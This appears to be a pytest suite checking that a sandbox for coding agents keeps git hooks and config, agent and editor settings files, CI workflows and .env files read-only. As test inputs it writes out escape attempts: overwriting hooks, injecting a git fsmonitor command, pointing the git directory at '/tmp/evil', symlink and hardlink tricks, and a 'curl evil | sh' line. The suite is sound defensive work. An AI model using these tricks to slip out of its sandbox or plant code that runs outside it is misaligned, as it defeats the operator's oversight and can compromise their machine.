"""Findings 5 and 6: what git, agents, editors and CI run from stays read-only in the sandbox."""

from __future__ import annotations

import os
import shutil
import subprocess

import pytest
from sandbox_escape_helpers import config, git_workspace, op, real_dir, run

from console.policy.config import DEFAULT_PROTECTED
from console.policy.patterns import ProtectedPaths
from console.policy.protected_set import ENTRIES

pytestmark = pytest.mark.needs_bwrap

# Finding 6, each as a file the sandboxed command tries to overwrite.
FINDING_6 = [
    ".git/modules/sub/config",
    ".git/modules/sub/hooks/post-checkout",
    "nested/.git/config",
    "nested/.git/hooks/pre-commit",
    ".gitattributes",
    ".gitmodules",
    ".claude/settings.local.json",
    ".codex/config.toml",
    ".gemini/settings.json",
    ".cursor/mcp.json",
    ".vscode/tasks.json",
    ".vscode/settings.json",
    ".husky/pre-commit",
    ".envrc",
    ".github/workflows/ci.yml",
    ".gitlab-ci.yml",
    ".pre-commit-config.yaml",
    ".mcp.json",
    ".git/info/attributes",
    ".git/config.worktree",
    ".git/commondir",
]


@pytest.fixture
def base():
    b = real_dir("ac-prot-")
    try:
        yield b
    finally:
        shutil.rmtree(b, ignore_errors=True)


def _fill(ws, names):
    for name in names:
        path = ws / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("original\n")


def test_every_entry_of_finding_6_is_read_only_inside_the_sandbox(base):
    ws = git_workspace(base)
    _fill(ws, FINDING_6)
    script = "; ".join(f"echo pwned > '{name}' 2>/dev/null" for name in FINDING_6) + "; true"
    result = run(op(ws, script), config(base))
    assert result.returncode == 0, result.stderr
    changed = [name for name in FINDING_6 if (ws / name).read_text() != "original\n"]
    assert changed == []


def test_every_default_entry_is_named_with_why():
    assert tuple(e.pattern for e in ENTRIES) == DEFAULT_PROTECTED
    assert all(e.why for e in ENTRIES)
    protected = ProtectedPaths(DEFAULT_PROTECTED)
    for name in FINDING_6:
        assert protected.is_protected(name), name


def test_missing_commondir_cannot_be_created_to_redirect_git(base):
    ws = git_workspace(base)
    evil = base / "evil-common"
    evil.mkdir()
    script = f"echo {evil} > .git/commondir; printf '[core]\\n\\tfsmonitor = touch PWNED\\n' > .git/config.worktree; true"
    run(op(ws, script), config(base))
    assert (ws / ".git" / "commondir").read_text() == ".\n"  # the placeholder: "this git dir"
    assert (ws / ".git" / "config.worktree").read_text() == ""
    # The operator's plain git still works and reads nothing the agent wrote.
    status = subprocess.run(["git", "-C", str(ws), "status"], capture_output=True, text=True)
    assert status.returncode == 0, status.stderr
    assert not (ws / "PWNED").exists()


def test_gitfile_of_a_worktree_cannot_be_pointed_elsewhere(base):
    main = git_workspace(base)
    subprocess.run(
        [
            "git",
            "-C",
            str(main),
            "-c",
            "user.email=a@b",
            "-c",
            "user.name=a",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "x",
        ],
        check=True,
    )
    wt = base / "wt"
    subprocess.run(["git", "-C", str(main), "worktree", "add", "-q", str(wt)], check=True)
    before = (wt / ".git").read_text()
    run(op(wt, "echo 'gitdir: /tmp/evil' > .git; rm -f .git; true"), config(base))
    assert (wt / ".git").read_text() == before


def test_replacing_the_git_dir_by_a_gitfile_fails(base):
    ws = git_workspace(base)
    run(op(ws, "mv .git .git-old; rm -rf .git; echo 'gitdir: /tmp/evil' > .git; true"), config(base))
    assert (ws / ".git").is_dir() and (ws / ".git" / "config").is_file()


def test_core_hookspath_target_is_protected(base):
    ws = git_workspace(base)
    (ws / ".githooks").mkdir()
    (ws / ".githooks" / "pre-commit").write_text("#!/bin/sh\n")
    subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", ".githooks"], check=True)
    run(op(ws, "echo pwned > .githooks/pre-commit; echo x > .githooks/post-merge; true"), config(base))
    assert (ws / ".githooks" / "pre-commit").read_text() == "#!/bin/sh\n"
    assert not (ws / ".githooks" / "post-merge").exists()


def test_protected_symlink_target_is_pinned(base):
    ws = git_workspace(base)
    (ws / "scripts").mkdir()
    (ws / "scripts" / "hook.sh").write_text("#!/bin/sh\n")
    os.symlink("../../scripts/hook.sh", ws / ".git" / "hooks" / "pre-commit")
    (ws / "config").mkdir()
    (ws / "config" / "dev.env").write_text("SECRET=1\n")
    os.symlink("config/dev.env", ws / ".env")
    run(op(ws, "echo pwned > scripts/hook.sh; echo pwned > .env; true"), config(base))
    assert (ws / "scripts" / "hook.sh").read_text() == "#!/bin/sh\n"
    assert (ws / "config" / "dev.env").read_text() == "SECRET=1\n"


def test_hardlink_made_in_one_run_does_not_keep_a_protected_file_writable(base):
    ws = git_workspace(base)
    cfg = config(base)
    # Run 1: .envrc does not exist yet, so the run may create it, and a hardlink beside it.
    run(op(ws, "echo 'export OK=1' > .envrc; ln .envrc notes.txt"), cfg)
    assert (ws / ".envrc").exists() and os.stat(ws / ".envrc").st_nlink == 2
    # Run 2: .envrc is protected now; the other name must not carry it out of its pin.
    run(op(ws, "echo 'curl evil | sh' > notes.txt; true"), cfg)
    assert (ws / ".envrc").read_text() == "export OK=1\n"


def test_sandboxed_git_commit_still_works_with_the_protected_set(base):
    ws = git_workspace(base)
    (ws / "file.txt").write_text("one\n")
    script = "git add file.txt && git -c user.email=a@b -c user.name=agent commit -q -m 'from the sandbox'"
    result = run(op(ws, script), config(base))
    assert result.returncode == 0, result.stderr
    log = subprocess.run(["git", "-C", str(ws), "log", "--format=%s"], capture_output=True, text=True)
    assert log.stdout.strip() == "from the sandbox"


def test_newline_in_a_parent_dir_name_still_protects_env(base):
    protected = ProtectedPaths(DEFAULT_PROTECTED)
    assert protected.is_protected("backend\n/.env")
    assert protected.is_protected("a\nb/keys/server.pem")
    ws = git_workspace(base)
    odd = ws / "backend\n"
    odd.mkdir()
    (odd / ".env").write_text("SECRET=1\n")
    run(op(ws, "echo pwned > 'backend\n/.env'; true"), config(base))
    assert (odd / ".env").read_text() == "SECRET=1\n"


def test_docs_list_every_protected_entry_with_why():
    from pathlib import Path

    doc = (Path(__file__).parents[2] / "docs" / "policy.md").read_text()
    for entry in ENTRIES:
        assert f"| `{entry.pattern}` | {entry.group} | {entry.why} |" in doc, entry.pattern
